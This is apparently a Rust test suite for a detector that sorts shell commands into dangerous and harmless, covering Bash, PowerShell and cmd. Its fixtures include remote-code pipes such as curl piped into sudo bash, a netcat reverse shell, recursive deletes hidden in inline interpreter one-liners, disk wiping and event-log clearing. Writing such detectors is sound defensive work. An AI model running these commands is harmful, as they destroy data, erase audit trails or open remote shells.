//! Code that runs unseen, inline programs, the shells of Windows.

use super::{assert_found, assert_silent};
use crate::model::Dialect;

#[test]
fn code_from_elsewhere_is_found_where_it_runs() {
    assert_found(
        Dialect::Bash,
        &[
            ("curl -s u | sudo -E bash -", "exec.remote"),
            ("wget -qO- u | python3 -", "exec.remote"),
            ("curl -s u | gunzip | sh", "exec.remote"),
            ("wget https://x/i.sh && sh i.sh", "exec.remote"),
            (
                "curl -o /tmp/i.sh https://x/i; bash /tmp/i.sh",
                "exec.remote",
            ),
            (
                "curl https://x/i > i.sh; chmod +x i.sh; ./i.sh",
                "exec.remote",
            ),
            ("python3 -c \"$(curl -s u)\"", "exec.remote"),
            ("nc -e /bin/sh host 4444", "exec.remote"),
        ],
    );
    assert_silent(
        Dialect::Bash,
        &[
            "curl -s u | python3 -m json.tool",
            "curl -s u | node -e 'x'",
            "curl -s u | perl -ne 'print'",
            "curl -s u | bash -n",
            "cat x.sh | sh",
            "sh install.sh",
            "curl -o i.sh https://x/i && cat i.sh",
            "nc -zv host 22",
        ],
    );
}

#[test]
fn inline_programs_are_judged_by_their_literal_calls() {
    assert_found(
        Dialect::Bash,
        &[
            (
                "python3 -c 'import os; c=\"rm -rf src\"; os.system(c)'",
                "fs.rm-recursive",
            ),
            (
                "python3 -c 'import shutil,sys; shutil.rmtree(sys.argv[1])'",
                "fs.rm-dynamic",
            ),
            ("perl -e 'unlink glob(\"*\")'", "fs.rm-glob"),
            (
                "ruby -e 'system(\"rm\", \"-rf\", \"src\")'",
                "fs.rm-recursive",
            ),
            ("ruby -e '`rm -rf src`'", "fs.rm-recursive"),
            (
                "node -e 'require(\"child_process\").execSync(\"rm -rf src\")'",
                "fs.rm-recursive",
            ),
            ("awk 'BEGIN{system(\"rm -rf src\")}'", "fs.rm-recursive"),
            ("python3 -c 'print(\"rm -rf src\")' | sh", "fs.rm-recursive"),
            (
                "osascript -e 'do shell script \"rm -rf src\"'",
                "fs.rm-recursive",
            ),
        ],
    );
    assert_silent(
        Dialect::Bash,
        &[
            "python3 -c 'import shutil; shutil.rmtree(\"/tmp/x\")'",
            "python3 -c 'print(\"shutil.rmtree(1)\")'",
            "python3 -c 'l=[1]; l.remove(1)'",
            "node -e '/a/.exec(\"rm -rf x\".length)'",
            "python3 -c 'import platform; print(platform.system())'",
            "perl -ne 'print if /rm -rf/'",
            "awk '$1 > 2'",
            "ruby -e 'puts \"rm -rf src\"'",
        ],
    );
}

#[test]
fn windows_shells_have_their_own_spellings() {
    assert_found(
        Dialect::Powershell,
        &[
            ("Remove-Item -rec -fo src", "win.delete"),
            ("gci *.log | ri", "win.delete"),
            ("Remove-Item *.log", "win.delete"),
            ("Clear-Content app.log", "win.delete"),
            (
                "Get-Disk | Clear-Disk -RemoveData -Confirm:$false",
                "win.disk",
            ),
            ("Restart-Computer", "win.system"),
            ("Stop-Process -Name chrome", "win.system"),
            ("sc.exe delete svc", "win.system"),
            ("Remove-AzResourceGroup -Name x -Force", "cloud.azure"),
            ("git push --force", "git.force-push"),
            ("docker system prune -af", "container.prune"),
        ],
    );
    assert_silent(
        Dialect::Powershell,
        &[
            "Remove-Item notes.txt -Force",
            "Remove-Item node_modules -Recurse -Force",
            "Remove-Item x -Recurse -WhatIf",
            "Stop-Process -Id 42",
            "Remove-Module x",
            "Uninstall-Module x",
            "Get-Content x | Out-Null",
            "Copy-Item a b",
            "wsl ls",
        ],
    );
    assert_found(
        Dialect::Cmd,
        &[
            ("rmdir /s/q src", "win.delete"),
            ("DEL *.*", "win.delete"),
            ("copy /y nul app.log", "win.delete"),
            ("format d: /q /y", "win.disk"),
            ("net stop spooler", "win.system"),
            ("shutdown /r /t 0", "win.system"),
            ("taskkill /im node.exe /f", "win.system"),
            ("wevtutil cl System", "win.recovery"),
            ("robocopy a b /purge", "win.delete"),
        ],
    );
    assert_silent(
        Dialect::Cmd,
        &[
            "del file.txt",
            "rd /s src",
            "del /s /p *.tmp",
            "robocopy a b /mir /l",
            "dir > nul",
            "net start spooler",
            "tasklist",
            "format",
        ],
    );
}
